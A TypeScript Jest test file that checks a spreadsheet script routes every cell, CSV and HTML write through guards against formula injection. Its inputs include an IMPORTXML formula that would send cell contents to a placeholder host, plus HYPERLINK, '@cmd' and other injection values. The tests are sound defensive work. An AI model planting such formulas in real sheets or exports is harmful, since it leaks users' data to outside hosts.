// One guard per hazard: the places where text becomes a cell, a CSV field or HTML are enumerated here, so a
// new write path that skips its guard fails this test.
import fs from 'node:fs';
import path from 'node:path';
import { csvField, toSheetText } from '../../src/domain/text';
import { cellValue } from '../../src/gas/book';

const ROOT = path.resolve(__dirname, '../..');

function files(dir: string): string[] {
  return fs.readdirSync(path.join(ROOT, dir), { withFileTypes: true }).flatMap((d) => {
    const rel = path.join(dir, d.name);
    if (d.isDirectory()) return files(rel);
    return /\.(ts|html)$/.test(d.name) ? [rel] : [];
  });
}

/** Every occurrence of `pattern` in the tree, as "file:line". */
function occurrences(dirs: string[], pattern: RegExp): string[] {
  const out: string[] = [];
  for (const file of dirs.flatMap(files)) {
    const lines = fs.readFileSync(path.join(ROOT, file), 'utf8').split('\n');
    lines.forEach((line, i) => {
      if (pattern.test(line)) out.push(`${file}:${i + 1}`);
    });
  }
  return out;
}

describe('text reaches a cell only through writeCells (src/gas/book.ts)', () => {
  test('no other file of the script calls a value-writing Range method', () => {
    const writes = occurrences(
      ['src'],
      /\.(setValues|setValue|setFormula|setFormulas|appendRow|setRichTextValues?)\s*\(/,
    ).filter((w) => !w.startsWith('src/gas/ports/'));
    expect(writes.map((w) => w.split(':')[0])).toEqual(['src/gas/book.ts']);
  });

  test('writeCells guards every string that is not marked as a formula', () => {
    const source = fs.readFileSync(path.join(ROOT, 'src/gas/book.ts'), 'utf8');
    const body = source.slice(source.indexOf('export function writeCells'));
    expect(body.slice(0, body.indexOf('\n}\n'))).toMatch(/toSheetText\(v\)/);
  });

  test.each([
    ['=IMPORTXML("https://example.org/?q="&A1, "//a")'],
    ['+380 44 123 45 67'],
    ['-5'],
    ['@SUM(A1:A2)'],
    ['8.5'],
    ['07.10.2024'],
    ['50%'],
    ['TRUE'],
    ["'quoted"],
  ])('%s is written so that Sheets keeps it as text', (text) => {
    expect(toSheetText(text).startsWith("'")).toBe(true);
  });
});

describe('text reaches a cell through the Sheets API only as cellValue (src/gas/book.ts) makes it', () => {
  test('no other file of the script builds a cell value for the API', () => {
    const values = occurrences(['src'], /\b(stringValue|formulaValue|numberValue|boolValue)\b/).filter(
      (w) => !w.startsWith('src/gas/ports/'),
    );
    expect([...new Set(values.map((w) => w.split(':')[0]))]).toEqual(['src/gas/book.ts']);
  });

  // A stringValue is kept as the text it is (https://developers.google.com/sheets/api/reference/rest/v4/spreadsheets/cells#extendedvalue):
  // the API parses nothing, so the text needs no apostrophe; only a cell marked as a formula is one.
  test.each([
    ['=IMPORTXML("https://example.org/?q="&A1, "//a")'],
    ['+380 44 123 45 67'],
    ['8.5'],
    ["'quoted"],
  ])('%s is a stringValue, as it is', (text) => {
    expect(cellValue(text)).toEqual({ stringValue: text });
  });

  test('the progress formula, marked, is a formulaValue; numbers and booleans stay what they are', () => {
    expect(cellValue('=COUNT(I3:L9)', true)).toEqual({ formulaValue: '=COUNT(I3:L9)' });
    expect([cellValue(7), cellValue(false), cellValue('')]).toEqual([
      { numberValue: 7 },
      { boolValue: false },
      undefined,
    ]);
  });
});

describe('CSV fields go through csvField (src/domain/text.ts)', () => {
  test('every CSV writer of the project maps its cells with csvField', () => {
    // local/season makes the synthetic department's input file, as raw as real ones are: not a project output.
    // A CSV writer joins each row's fields with a separator, then the rows with line breaks.
    const joins = occurrences(['src', 'local'], /\.map\(\w+\)\.join\(['"][,;]['"]\)\)\.join\(/).filter(
      (j) => !j.startsWith('local/season/'),
    );
    expect(joins.length).toBeGreaterThan(0);
    for (const j of joins) {
      const [file, line] = j.split(':');
      const text = fs.readFileSync(path.join(ROOT, file), 'utf8').split('\n')[Number(line) - 1];
      expect({ at: j, text: text.trim() }).toEqual({
        at: j,
        text: expect.stringMatching(/\.map\(csvField\)/),
      });
    }
  });

  test.each([
    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['+380441234567', "'+380441234567"],
    ['-2+3', "'-2+3"],
    ['@cmd', "'@cmd"],
    ['\tx', "'\tx"],
    ['Печерськ, Київ', '"Печерськ, Київ"'],
    ['звичайний текст', 'звичайний текст'],
  ])('%j becomes %j', (text, field) => {
    expect(csvField(text)).toBe(field);
  });
});

describe('HTML the script builds is escaped', () => {
  test('the pages and letters are built in the files that escape their text', () => {
    const builders = [
      ...new Set(
        occurrences(['src'], /createHtmlOutput\(|htmlBody:/)
          .map((o) => o.split(':')[0])
          .filter((f) => !f.startsWith('src/gas/ports/')),
      ),
    ].sort();
    expect(builders).toEqual([
      'src/gas/mailer.ts',
      'src/workflow/dispatcher.ts',
      'src/workflow/menu/dialogs.ts',
      'src/workflow/publish.ts',
    ]);
    for (const f of builders) {
      const source = fs.readFileSync(path.join(ROOT, f), 'utf8');
      expect({ f, escapes: /escapeHtml|fillPage|messagePage|publicPage|layout\(/.test(source) }).toEqual({
        f,
        escapes: true,
      });
    }
  });
});
